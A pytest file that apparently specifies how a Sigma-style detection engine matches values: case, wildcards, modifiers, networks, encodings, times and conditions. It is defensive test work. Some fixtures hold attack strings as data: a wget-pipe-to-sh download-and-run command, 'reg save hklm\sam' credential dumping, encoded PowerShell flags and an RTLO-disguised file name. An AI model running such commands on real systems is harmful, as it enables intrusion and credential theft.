"""What the specification says about values, each line one sentence of it."""

from typing import Any

import pytest

YES, NO = True, False
LONG = "x" * 10_000


@pytest.mark.parametrize(
    ("selection", "event", "expected"),
    [
        # Case does not matter, in any script, unless it is said to.
        ({"Image": "C:\\Reg.exe"}, {"Image": "c:\\REG.EXE"}, YES),
        ({"User": "ÉLODIE"}, {"User": "élodie"}, YES),
        ({"User": "ΟΔΥΣΣΕΥΣ"}, {"User": "οδυσσευς"}, YES),
        ({"User": "\u212aelvin"}, {"User": "kelvin"}, YES),
        ({"User": "straße"}, {"User": "STRASSE"}, NO),
        ({"User|cased": "Alice"}, {"User": "alice"}, NO),
        ({"User|cased": "Alice"}, {"User": "Alice"}, YES),
        ({"User|cased|contains": "lic"}, {"User": "ALICE"}, NO),
        ({"User|contains|cased": "LIC"}, {"User": "ALICE"}, YES),
        ({"CommandLine|windash|cased|contains": "-Enc"}, {"CommandLine": "x /Enc y"}, YES),
        ({"CommandLine|cased|windash|contains": "-Enc"}, {"CommandLine": "x /enc y"}, NO),
        # Wildcards, and how they are escaped.
        ({"A": "a*c"}, {"A": "abc"}, YES),
        ({"A": "a*c"}, {"A": "ac"}, YES),
        ({"A": "a?c"}, {"A": "ac"}, NO),
        ({"A": "a?c"}, {"A": "aİc"}, YES),
        ({"A": r"a\*c"}, {"A": "abc"}, NO),
        ({"A": r"a\*c"}, {"A": "a*c"}, YES),
        ({"A": r"a\?c"}, {"A": "a?c"}, YES),
        ({"A": r"a\\*c"}, {"A": r"a\bc"}, YES),
        ({"A": r"\\\\host"}, {"A": r"\\host"}, YES),
        ({"A": r"C:\a"}, {"A": r"C:\a"}, YES),
        ({"A": "a*c"}, {"A": "a\nc"}, YES),
        ({"A": "*"}, {"A": ""}, YES),
        ({"A": "*"}, {}, NO),
        ({"A": "?*"}, {"A": ""}, NO),
        # Parts of a text.
        ({"A|contains": "bc"}, {"A": "ABCD"}, YES),
        ({"A|startswith": "ab"}, {"A": "ABCD"}, YES),
        ({"A|startswith": "bc"}, {"A": "ABCD"}, NO),
        ({"A|endswith": "cd"}, {"A": "ABCD"}, YES),
        ({"A|endswith": "bc"}, {"A": "ABCD"}, NO),
        ({"A|startswith": "abcd"}, {"A": "ABCD"}, YES),
        ({"A|endswith": "abcd"}, {"A": "ABCD"}, YES),
        ({"A|endswith": "xabcd"}, {"A": "ABCD"}, NO),
        ({"A|startswith": "ab", "A|endswith": "cd"}, {"A": "ab"}, NO),
        ({"A|startswith": "ab", "A|endswith": "cd"}, {"A": "abcd"}, YES),
        ({"A|startswith|all": ["a", "ab"], "A": "abc"}, {"A": "abcd"}, NO),
        ({"A|contains": "b?d*f"}, {"A": "xbcdeeefx"}, YES),
        ({"A|contains": ""}, {"A": ""}, YES),
        ({"A|contains": "y"}, {"A": LONG + "y" + LONG}, YES),
        # Lists are one of; all is all of; maps are all of; lists of maps are one of.
        ({"A": ["x", "y"]}, {"A": "y"}, YES),
        ({"A|contains|all": ["x", "y"]}, {"A": "yx"}, YES),
        ({"A|contains|all": ["x", "y"]}, {"A": "x"}, NO),
        ({"A": "x", "B": "y"}, {"A": "x"}, NO),
        ([{"A": "x"}, {"B": "y"}], {"B": "y"}, YES),
        ([{"A": "x", "B": "y"}, {"C": "z"}], {"A": "x", "C": "q"}, NO),
        ({"A|contains|all": ["x"], "B": "y"}, {"A": "x", "B": "y"}, YES),
        # Nothing, empty, and there.
        ({"A": None}, {}, YES),
        ({"A": None}, {"A": ""}, NO),
        ({"A": ""}, {"A": ""}, YES),
        ({"A": ""}, {}, NO),
        ({"A": [None, ""]}, {}, YES),
        ({"A|exists": True}, {"A": ""}, YES),
        ({"A|exists": False}, {"A": ""}, NO),
        ({"A|exists": False}, {}, YES),
        ({"A|neq": "x"}, {}, YES),
        ({"A|neq": ["x", "y"]}, {"A": "y"}, NO),
        # Numbers and booleans are their text.
        ({"EventID": 4688}, {"EventID": "4688"}, YES),
        ({"EventID": [1, 4688]}, {"EventID": "46880"}, NO),
        ({"A": 1.5}, {"A": "1.5"}, YES),
        ({"A": "4688"}, {"A": "4688"}, YES),
        ({"A": True}, {"A": "true"}, YES),
        ({"A": "True"}, {"A": "true"}, YES),
        ({"A": False}, {"A": "False"}, YES),
        ({"A|gt": 5}, {"A": "6"}, YES),
        ({"A|gt": 5}, {"A": "5"}, NO),
        ({"A|gte": 5}, {"A": "5.0"}, YES),
        ({"A|lt": -1}, {"A": "-2"}, YES),
        ({"A|lte": 0.5}, {"A": "5e-1"}, YES),
        ({"A|gt": 5}, {"A": "0x10"}, NO),
        ({"A|gt": 5}, {"A": "many"}, NO),
        ({"A|gt": 5}, {"A": "9" * 5000}, NO),
        ({"A|gt": 5}, {}, NO),
        # Regular expressions are searched for, with case.
        ({"A|re": "b+c"}, {"A": "abbcd"}, YES),
        ({"A|re": "B"}, {"A": "abc"}, NO),
        ({"A|re|i": "B"}, {"A": "abc"}, YES),
        ({"A|re": "^b"}, {"A": "a\nb"}, NO),
        ({"A|re|m": "^b"}, {"A": "a\nb"}, YES),
        ({"A|re": "a.b"}, {"A": "a\nb"}, NO),
        ({"A|re|s": "a.b"}, {"A": "a\nb"}, YES),
        ({"A|re": r"(?<=x)y(?!z)"}, {"A": "xyx"}, YES),
        ({"A|re": r"(.)\1"}, {"A": "abba"}, YES),
        ({"A|re|startswith": "b|c"}, {"A": "ac"}, NO),
        ({"A|re|startswith": "b|c"}, {"A": "ca"}, YES),
        ({"A|re|endswith": "b|c"}, {"A": "ca"}, NO),
        ({"A|re": r"\\\*"}, {"A": r"\*"}, YES),
        # Networks.
        ({"Ip|cidr": "192.0.2.0/24"}, {"Ip": "192.0.2.77"}, YES),
        ({"Ip|cidr": "192.0.2.0/24"}, {"Ip": "192.0.20.7"}, NO),
        ({"Ip|cidr": "192.0.2.0/24"}, {"Ip": "::ffff:192.0.2.77"}, YES),
        ({"Ip|cidr": "2001:db8::/32"}, {"Ip": "2001:DB8:0::1"}, YES),
        ({"Ip|cidr": "2001:db8::/32"}, {"Ip": "192.0.2.1"}, NO),
        ({"Ip|cidr": ["198.51.100.0/24", "192.0.2.0/24"]}, {"Ip": "192.0.2.1"}, YES),
        ({"Ip|cidr": "192.0.2.0/24"}, {"Ip": "not an address"}, NO),
        # Encodings.
        ({"A|base64": "abc"}, {"A": "YWJj"}, YES),
        ({"A|base64offset|contains": "powershell"}, {"A": "xxcG93ZXJzaGVsbAyy"}, YES),
        ({"A|base64offset|contains": "powershell"}, {"A": "fBvd2Vyc2hlbGyy"}, YES),
        ({"A|wide|base64offset|contains": "ab"}, {"A": "YQBiA"}, YES),
        ({"A|utf16|base64offset|contains": "ab"}, {"A": "//5hAGIA"}, YES),
        ({"A|utf16be|base64": "ab"}, {"A": "AGEAYg=="}, YES),
        ({"CommandLine|windash|contains": " -enc"}, {"CommandLine": "ps \u2013enc x"}, YES),
        ({"CommandLine|windash|contains": " -enc"}, {"CommandLine": "ps /ENC x"}, YES),
        ({"CommandLine|windash|contains|all": ["-a", "-b"]}, {"CommandLine": "/a -b"}, YES),
        ({"CommandLine|windash|contains|all": ["-a", "-b"]}, {"CommandLine": "/a"}, NO),
        # One field against another.
        ({"A|fieldref": "B"}, {"A": "Alice", "B": "alice"}, YES),
        ({"A|cased|fieldref": "B"}, {"A": "Alice", "B": "alice"}, NO),
        ({"A|fieldref|startswith": "B"}, {"A": "alice@example.com", "B": "ALICE"}, YES),
        ({"A|fieldref|endswith": "B"}, {"A": "alice@example.com", "B": "example.com"}, YES),
        ({"A|fieldref|contains": "B"}, {"A": "alice", "B": "lic"}, YES),
        ({"A|fieldref": "B"}, {"A": "alice"}, NO),
        ({"A|fieldref": "B"}, {}, NO),
        ({"A|fieldref": "B"}, {"A": ["x", "y"], "B": ["z", "Y"]}, YES),
        # Parts of a time, in UTC.
        ({"Time|hour": 23}, {"Time": "2025-02-03T23:59:00Z"}, YES),
        ({"Time|hour|gte": 22}, {"Time": "2025-02-03 21:59:00.123"}, NO),
        ({"Time|hour": 21}, {"Time": "2025-02-03T23:59:00+02:00"}, YES),
        ({"Time|year": 2023}, {"Time": "1700000000"}, YES),
        ({"Time|week": 6}, {"Time": "2025-02-03T00:00:00Z"}, YES),
        ({"Time|minute": 0}, {"Time": "soon"}, NO),
        # A field with several values.
        ({"Data": "b"}, {"Data": ["a", "B"]}, YES),
        ({"Data|contains|all": ["a", "b"]}, {"Data": ["xa", "xb"]}, YES),
        ({"Data": None}, {"Data": []}, YES),
        ({"Data|re": "^b"}, {"Data": ["a", "b"]}, YES),
        ({"Data|exists": True}, {"Data": ["a"]}, YES),
        # Keywords are found anywhere, in any value.
        (["reg SAVE"], {"A": "x", "B": "cmd /c Reg save y"}, YES),
        (["reg*hklm"], {"B": "reg save hklm\\sam"}, YES),
        ("wget * - http* | sh", {"A": "$ wget -O - http://192.0.2.1/a | sh"}, YES),
        (["nothing"], {"A": "x"}, NO),
        ({"|all": ["x", "y"]}, {"A": "x", "B": "y"}, YES),
        ({"|all": ["x", "y"]}, {"A": "x"}, NO),
        ({"|all": ["POST", 200]}, {"A": "post", "B": "200"}, YES),
        ({"|re": "^y$"}, {"A": "x", "B": "y"}, YES),
        ({"|contains": ["q", "x"]}, {"A": "axb"}, YES),
        (["y", {"A": "x"}], {"A": "x"}, YES),
        ([True], {"A": "true"}, YES),
        (["\u202egnp.exe"], {"A": "photo\u202egnp.exe"}, YES),
        (["<script>"], {"A": "\x00<SCRIPT>\ufffd"}, YES),
    ],
)
def test_selections(bench: Any, selection: Any, event: Any, expected: bool) -> None:  # noqa: FBT001
    assert bench.selects(selection, event) is expected


@pytest.mark.parametrize(
    ("condition", "event", "expected"),
    [
        ("a and not b", {"A": "1"}, YES),
        ("a and not b", {"A": "1", "B": "1"}, NO),
        ("not b", {}, YES),
        ("not a and not b", {"A": "1"}, NO),
        ("1 of *", {"B": "1"}, YES),
        ("all of them", {"A": "1", "B": "1"}, NO),
        ("all of them", {"A": "1", "B": "1", "C": "1"}, YES),
        ("2 of them", {"A": "1", "C": "1"}, YES),
        ("2 of them", {"C": "1"}, NO),
        ("not 2 of them", {"C": "1"}, YES),
        (["a and b", "c"], {"C": "1"}, YES),
        ("(a or (b and (c or not a)))", {"B": "1", "C": "1"}, YES),
    ],
)
def test_conditions(bench: Any, condition: Any, event: Any, expected: bool) -> None:  # noqa: FBT001
    detection = {"a": {"A": 1}, "b": {"B": 1}, "c": {"C": 1}, "condition": condition}
    assert bench.matches(detection, event) is expected


@pytest.mark.parametrize(
    ("selection", "event", "expected"),
    [
        ({"User|expand": "%admins%"}, {"User": "ROOT"}, YES),
        ({"User|expand": "%admins%"}, {"User": "adm-17"}, YES),
        ({"User|expand": "%admins%"}, {"User": "alice"}, NO),
        ({"User|expand": r"CORP\%admins%@%domains%"}, {"User": r"corp\root@example.org"}, YES),
        ({"User|contains|expand": "%domains%"}, {"User": "alice@example.com"}, YES),
        ({"User|re|expand": "^(%admins%)$"}, {"User": "root"}, YES),
        ({"User|expand": r"100%"}, {"User": "100%"}, YES),
    ],
)
def test_placeholders(bench: Any, selection: Any, event: Any, expected: bool) -> None:  # noqa: FBT001
    lists = {"admins": ["root", "adm-*"], "domains": ["example.com", "example.org"]}
    assert bench.selects(selection, event, placeholders=lists) is expected
